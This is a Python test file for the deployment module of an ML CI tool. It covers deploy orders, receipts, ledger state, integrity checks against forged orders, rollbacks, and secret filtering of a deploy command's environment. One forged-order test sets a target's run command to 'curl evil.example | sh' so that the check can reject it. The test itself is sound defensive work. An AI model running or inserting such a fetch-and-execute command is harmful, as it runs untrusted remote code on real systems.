from __future__ import annotations

import hashlib
from functools import partial

import msgspec
import pytest

from ciml.core.deployment import (
    DeployOrder,
    Receipt,
    Served,
    already,
    deploy_env,
    deployment_id,
    order_fault,
    receipt_digest,
    receipt_fault,
    restoring,
    secrets_in,
    serving,
)
from ciml.core.entries import Deployment, Entry, FailedDeployment, Genesis, Promotion, Registration
from ciml.core.errors import IntegrityError, RaceError
from ciml.core.ids import CommitSha, Digest, ModelName, RepoPath
from ciml.core.ledger import LedgerState, fold
from ciml.core.pipeline import DeployTarget
from ciml.core.results import Output
from ciml.core.succession import AlreadyThere, Extension, extend, next_entry

M = ModelName("m")
TARGET = DeployTarget(name="production", after="release", run="./deploy.sh", smoke="./smoke.sh")


def hexes(text: str) -> Digest:
    return Digest(hashlib.sha256(text.encode()).hexdigest())


def artifact(version: int) -> Output:
    return Output(path=RepoPath("build/model.pkl"), digest=hexes(f"bytes {version}"), size=3)


def registration(version: int) -> Registration:
    return Registration(
        nonce=f"r{version}",
        version=version,
        recipe=hexes(f"recipe {version}"),
        artifact=artifact(version),
        run="run",
        row="row",
        created=version,
        commit=CommitSha(str(version) * 40),
    )


def deployment(version: int, ref: str = "v1", **more: object) -> Deployment:
    told = Deployment(nonce="d", environment="production", version=version, artifact=artifact(version).digest, ref=ref)
    return msgspec.structs.replace(told, **more)


def failure(version: int, *, restored: bool, **more: object) -> FailedDeployment:
    told = FailedDeployment(
        nonce="f", environment="production", version=version, artifact=artifact(version).digest, restored=restored
    )
    return msgspec.structs.replace(told, **more)


def ledger(*entries: Entry) -> LedgerState:
    """Versions 1 and 2 are registered; then these entries."""
    first = Genesis(nonce="g", model=M, registry="embedded")
    found = extend(LedgerState(model=M), (first, registration(1), registration(2), *entries))
    assert isinstance(found, Extension)
    assert fold(M, found.entries).deployments == found.state.deployments
    assert fold(M, found.entries).unsettled == found.state.unsettled
    return found.state


def order(version: int = 2, *, state: LedgerState | None = None, ref: str = "v2") -> DeployOrder:
    return DeployOrder(
        id=deployment_id("production", M, version, ref),
        model=M,
        version=version,
        artifact=artifact(version),
        commit=CommitSha("c" * 40),
        ref=ref,
        target=TARGET,
        previous=serving(state, "production") if state else None,
    )


def receipt(of: DeployOrder) -> Receipt:
    return Receipt(
        id=of.id,
        environment=of.environment,
        model=of.model,
        version=of.version,
        artifact=of.artifact.digest,
        outcome="deployed",
        started="2026-11-21T02:30:00Z",
        finished="2026-11-21T02:31:00Z",
        nonce="1",
    )


def test_orders_and_receipts_travel_as_json() -> None:
    """What one job writes, another reads as the same value."""
    wanted, told = order(state=ledger(deployment(1))), receipt(order())
    assert msgspec.json.decode(msgspec.json.encode(wanted), type=DeployOrder) == wanted
    assert msgspec.json.decode(msgspec.json.encode(told), type=Receipt) == told
    assert (wanted.format, told.format) == ("ciml/deployment/1", "ciml/receipt/1")
    assert (wanted.name, wanted.uri) == ("production.m", "models:/m/2")


def test_the_same_deployment_has_the_same_id() -> None:
    """The id is of environment, model, version and ref, and of nothing else."""
    ids = {
        deployment_id(environment, model, version, ref)
        for environment in ("a", "b")
        for model in (M, ModelName("n"))
        for version in (1, 2)
        for ref in ("", "v1")
    }
    assert len(ids) == 16
    assert deployment_id("a", M, 1, "v1") == deployment_id("a", M, 1, "v1")


# What serves, by the ledger.


def test_what_serves() -> None:
    """The last deployment that succeeded, whatever failed since."""
    assert serving(ledger(), "production") is None
    state = ledger(deployment(1), failure(2, restored=True))
    assert serving(state, "production") == Served(version=1, artifact=artifact(1), ref="v1")
    assert already(state, "production", 1) and not already(state, "production", 2)
    assert already(state, "staging", 1) is None


def test_nobody_knows_what_a_failure_left() -> None:
    """After one that was not put back nothing counts as deployed, until something is deployed or put back."""
    state = ledger(deployment(1), failure(2, restored=False))
    assert serving(state, "production") and already(state, "production", 1) is None
    for settles in (deployment(1, nonce="again"), failure(2, restored=True, receipt=hexes("other"))):
        found = extend(state, [settles])
        assert isinstance(found, Extension) and len(found.entries) == 1
        assert already(found.state, "production", 1)


def test_one_entry_for_each_receipt() -> None:
    """A receipt that is recorded again writes nothing, whatever serves by then; nor does what serves already."""
    first = deployment(1, receipt=hexes("one"))
    state = ledger(first, deployment(2, ref="v2", receipt=hexes("two")))
    for again in (first, deployment(2, ref="v2", receipt=hexes("three"))):
        assert isinstance(next_entry(state, again), AlreadyThere)
    assert isinstance(next_entry(state, deployment(1, receipt=hexes("four"))), Deployment)
    failed = failure(2, restored=True, receipt=hexes("five"))
    assert isinstance(next_entry(ledger(failed), failed), AlreadyThere)
    assert isinstance(next_entry(ledger(failed), failure(2, restored=True)), FailedDeployment)


# Handed on between jobs.


def test_an_order_is_held_against_the_ledger() -> None:
    """An order that another job handed on is that of event, ledger and ciml.yaml, or it is not carried out."""
    state = ledger(deployment(1))
    good, targets = order(state=state), {"production": TARGET}
    fault_of = partial(order_fault, state=state, targets=targets, tag=good.ref, head=good.commit, run="")
    assert fault_of(good) is None

    elsewhere = msgspec.structs.replace(TARGET, run="curl evil.example | sh")
    forged = {
        "its id": msgspec.structs.replace(good, id=hexes("other")),
        "its version": order(3, state=state),
        "its files": msgspec.structs.replace(good, artifact=artifact(1)),
        "its target": msgspec.structs.replace(good, target=elsewhere),
        "its run": msgspec.structs.replace(good, run="17"),
        "its tag": order(state=state, ref="v9"),
        "its commit": msgspec.structs.replace(good, commit=CommitSha("e" * 40)),
    }
    for what, bad in forged.items():
        fault = fault_of(bad)
        assert isinstance(fault, IntegrityError) and what in fault.message
    assert fault_of(good, targets={})
    assert isinstance(fault_of(good, state=ledger()), RaceError)
    assert good.outputs == (artifact(2), artifact(1)) and order().outputs == (artifact(2),)


def test_an_order_that_follows_the_champion() -> None:
    """It waited for a person's approval, and the champion is another one by now: the version is not deployed."""
    first = Promotion(nonce="p", gen=0, version=2)
    state, targets = ledger(first), {"production": TARGET}
    followed = msgspec.structs.replace(order(state=state, ref=""), commit=registration(2).commit)
    assert order_fault(followed, state, targets, tag=None, head=None, run="") is None
    elsewhere = msgspec.structs.replace(followed, commit=CommitSha("e" * 40))
    assert isinstance(order_fault(elsewhere, state, targets, tag=None, head=None, run=""), IntegrityError)
    assert isinstance(order_fault(followed, state, targets, tag="v2", head=followed.commit, run=""), IntegrityError)

    moved = ledger(first, Promotion(nonce="q", gen=1, version=1, champion=state.champion_identity, by_hand=True))
    for later in (moved, ledger()):
        fault = order_fault(followed, later, targets, tag=None, head=None, run="")
        assert isinstance(fault, RaceError) and "version 2 of m is no longer the champion" in fault.message


@pytest.mark.parametrize(
    "change",
    [
        {"id": hexes("other")},
        {"environment": "staging"},
        {"model": ModelName("n")},
        {"version": 1},
        {"artifact": hexes("other")},
    ],
)
def test_a_receipt_tells_of_its_own_order(change: dict[str, object]) -> None:
    """A deployment's script may write what it likes: a receipt for anything else is refused."""
    assert receipt_fault(order(), receipt(order())) is None
    assert receipt_fault(order(), msgspec.structs.replace(receipt(order()), **change)) is not None


def test_two_attempts_have_two_receipts() -> None:
    """Also within one second."""
    one = receipt(order())
    assert receipt_digest(one) == receipt_digest(receipt(order()))
    assert receipt_digest(one) != receipt_digest(msgspec.structs.replace(one, nonce="2"))


def test_putting_back_is_the_order_of_before() -> None:
    """It has the id that the version before had when it was deployed, and its tag."""
    back = restoring(order(state=ledger(deployment(1))))
    assert back and (back.id, back.version, back.ref) == (deployment_id("production", M, 1, "v1"), 1, "v1")
    assert back.artifact == artifact(1) and back.previous and back.previous.version == 2
    assert restoring(order()) is None


# What a command sees.


def test_the_environment_of_a_command() -> None:
    """All but what is the runner's, the registry's and ciml's own; the registry's address without a password."""
    environ = {
        "PATH": "/bin",
        "AWS_SECRET_ACCESS_KEY": "k",
        "KUBECONFIG": "/k",
        "MLFLOW_TRACKING_URI": "https://u:p@mlflow.example/x",
        "MLFLOW_TRACKING_USERNAME": "u",
        "GH_TOKEN": "t",
        "CIML_ANYTHING": "x",
        "GIT_CONFIG_COUNT": "1",
        "GIT_AUTHOR_NAME": "Ada",
        "ACTIONS_RUNTIME_URL": "https://x",
    }
    seen = deploy_env(order(state=ledger(deployment(1))), environ, files="/m")

    kept = {name: value for name, value in seen.items() if not name.startswith("CIML_")}
    assert kept == {
        "PATH": "/bin",
        "AWS_SECRET_ACCESS_KEY": "k",
        "KUBECONFIG": "/k",
        "MLFLOW_TRACKING_URI": "https://mlflow.example/x",
        "GIT_AUTHOR_NAME": "Ada",
        "ACTIONS_RUNTIME_URL": "https://x",
    }
    assert (seen["CIML_PREVIOUS_VERSION"], seen["CIML_MODEL_PATH"], seen["CIML_REF"]) == ("1", "/m", "v2")
    assert deploy_env(order(), {}, files="/m")["CIML_PREVIOUS_VERSION"] == ""


def test_what_is_secret_by_its_name() -> None:
    """Values of variables that are named like secrets, and long enough not to be words."""
    environ = {
        "CLOUD_TOKEN": "12345678",
        "DB_PASSWORD": "12345678",
        "API_KEY": "12345678",
        "KEYBOARD": "12345678",
        "SHORT_TOKEN": "1234",
    }
    assert sorted(secrets_in(environ)) == ["API_KEY", "CLOUD_TOKEN", "DB_PASSWORD"]
